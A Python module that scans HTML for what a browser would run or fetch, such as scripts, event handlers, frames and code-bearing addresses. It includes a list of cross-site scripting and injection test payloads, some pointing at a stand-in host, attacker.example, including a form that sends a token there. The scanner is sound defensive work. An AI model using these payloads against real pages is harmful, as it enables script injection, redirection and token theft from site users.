"""Find what a page of HTML would run: scripts, handlers, frames, addresses that are code."""

from __future__ import annotations

from collections import Counter
from html.parser import HTMLParser

ACTIVE_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "foreignobject",
}
ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster"}
CODE = ("javascript:", "vbscript:", "data:text/html", "data:image/svg", "data:application")


PAYLOADS = [
    "<script>alert('nn-attack')</script>",
    "<img src=x onerror=alert('nn-attack')>",
    "<svg/onload=alert('nn-attack')>",
    "<a href=\"javascript:alert('nn-attack')\">x</a>",
    "<iframe srcdoc=\"<script>alert('nn-attack')</script>\"></iframe>",
    "<details open ontoggle=alert('nn-attack')>",
    "<math><mtext></p><img src=x onerror=alert('nn-attack')></mtext></math>",
    "<style>@import 'https://attacker.example/x.css';</style>",
    "</code></pre></div><script>alert('nn-attack')</script>",
    "&lt;script&gt;alert('nn-attack')&lt;/script&gt;",
    '<IMG """><SCRIPT>alert(\'nn-attack\')</SCRIPT>">',
    "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
    "<base href='https://attacker.example/'>",
    "<form action='https://attacker.example'><input name=token></form>",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
]
"""Markup that a careless page would run; each on one line."""


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: (value or "").strip().lower() for name, value in attrs}
        if tag in ACTIVE_TAGS:
            self.found[f"<{tag} {values.get('src', '')}".strip() + ">"] += 1
        if tag == "meta" and values.get("http-equiv") == "refresh":
            self.found["<meta refresh>"] += 1
        if tag == "link" and not values.get("href", "").startswith("https://cdnjs"):
            self.found[f"<link {values.get('rel', '')}>"] += 1
        for name, value in values.items():
            squeezed = "".join(value.split())
            if (
                name.startswith("on")
                or (name in ADDRESSES and squeezed.startswith(CODE))
                or (
                    name in {"src", "data", "poster", "srcset"}
                    and squeezed.startswith(("http:", "https:", "//"))
                )
            ):
                self.found[f"{tag} {name}={value[:60]}"] += 1
            elif name == "style" and ("url(" in squeezed or "expression(" in squeezed):
                self.found[f"{tag} style={value[:60]}"] += 1

    handle_startendtag = handle_starttag


def active(html: str) -> Counter[str]:
    """Count what a browser would run or fetch when it opens a page.

    Parameters
    ----------
    html : str
        The page.

    Returns
    -------
    Counter of str
        Script tags, frames, event handlers, code addresses, remote pictures, by how they look.
    """
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
